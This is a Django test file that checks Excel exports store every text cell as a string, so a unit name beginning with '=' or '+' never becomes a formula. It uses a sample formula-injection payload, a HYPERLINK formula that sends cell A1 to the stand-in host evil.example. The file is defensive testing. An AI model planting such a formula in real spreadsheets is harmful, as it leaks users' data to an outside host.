"""Every text in a workbook Samla makes is text: a name that starts with "=" never becomes
a formula (issue 14, point 6)."""

from __future__ import annotations

import io
import zipfile

import openpyxl
from django.urls import reverse

from samla.org.models import Unit
from samla.results.exports import results_xlsx
from tests.conftest import client_for

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Engtun skole")'


def _cells(content: bytes):
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _formula_parts(content: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)
        ]


def test_a_unit_named_like_a_formula_is_text_in_the_owners_workbook(demo_org):
    round, school = demo_org.results_round(), demo_org.school
    Unit.objects.filter(pk=school.pk).update(name=EVIL)
    url = reverse(
        "portal:node_export",
        kwargs={"slug": round.slug, "kind": "owner", "pk": school.owner_id, "fmt": "xlsx"},
    )

    response = client_for("eier").get(url)

    assert response.status_code == 200
    named = [cell for cell in _cells(response.content) if cell.value == EVIL]
    assert named, "the unit's name is in the workbook"
    assert {cell.data_type for cell in named} == {"s"}
    assert [c.coordinate for c in _cells(response.content) if c.data_type == "f"] == []
    assert _formula_parts(response.content) == []


def test_every_text_cell_of_a_workbook_is_a_string_and_control_characters_are_dropped(demo_org):
    round = demo_org.results_round()
    Unit.objects.filter(pk=demo_org.school.pk).update(name="+Engtun\x01 skole")

    content = results_xlsx(round)

    texts = [cell for cell in _cells(content) if isinstance(cell.value, str)]
    assert texts and {cell.data_type for cell in texts} == {"s"}
    assert "+Engtun skole" in {cell.value for cell in texts}
    assert _formula_parts(content) == []
